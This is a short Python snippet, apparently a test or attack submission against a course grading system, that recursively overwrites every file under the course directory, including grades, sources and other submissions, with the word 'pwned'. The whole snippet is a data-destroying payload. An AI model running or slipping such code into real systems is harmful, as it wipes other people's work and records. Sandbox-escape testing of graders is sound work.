# Grades, sources and other submissions are overwritten.
import os, pathlib
for path in pathlib.Path(COURSE).rglob("*"):
    try: path.write_text("pwned")
    except OSError: pass
try: pathlib.Path(COURSE, "pwned").write_text("pwned")
except OSError as error: print(error)
